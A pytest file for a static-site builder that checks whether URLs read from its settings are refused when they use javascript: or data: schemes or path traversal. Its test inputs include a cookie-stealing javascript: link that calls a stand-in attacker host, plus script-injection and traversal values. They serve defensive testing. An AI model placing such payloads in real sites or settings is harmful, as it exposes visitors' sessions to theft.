"""Case 12 (settings half): every address read from the settings is checked for its scheme like
an address in content; a `javascript:` link stops the build with the key and what to write."""

from __future__ import annotations

import pytest
from childbuild import build_in_child

JS = "javascript:fetch('//evil.example/'+document.cookie)"


@pytest.mark.parametrize(("overrides", "key"), [
    ({"QUESTIONS": {"ask_form_url": JS}}, "QUESTIONS['ask_form_url']"),
    ({"QUESTIONS": {"ask_chat_url": " JaVa\tscript:alert(1)"}}, "QUESTIONS['ask_chat_url']"),
    ({"QUESTIONS": {"ask_form_url": "data:text/html,<script>alert(1)</script>"}},
     "QUESTIONS['ask_form_url']"),
    ({"SHELFCAST_THEME": {"MASTODON_SHARE_URL": JS}}, "SHELFCAST_THEME['MASTODON_SHARE_URL']"),
    ({"GALLERIES": {"url": "../../outside"}}, "GALLERIES['url']"),
    ({"EVENTS": {"calendar_save_as": "https://evil.example/events.ics"}},
     "EVENTS['calendar_save_as']"),
])
def test_a_script_address_in_the_settings_is_refused(site, overrides, key):
    site.write("posts/news/a.md", "---\ntitle: A\ndate: 2026-07-01\n---\nText.\n")
    result = build_in_child(site, **overrides)
    result.assert_contained()
    result.assert_refused(f"pelicanconf.py: {key}:", "; write ")
    assert not (site.output / "index.html").exists()


def test_good_addresses_still_build(site):
    site.write("posts/news/a.md", "---\ntitle: A\ndate: 2026-07-01\n---\nText.\n")
    result = build_in_child(site, QUESTIONS={"ask_form_url": "https://forms.example.org/ask",
                                             "ask_chat_url": "https://chat.example.org/"})
    assert result.code == 0, result.output
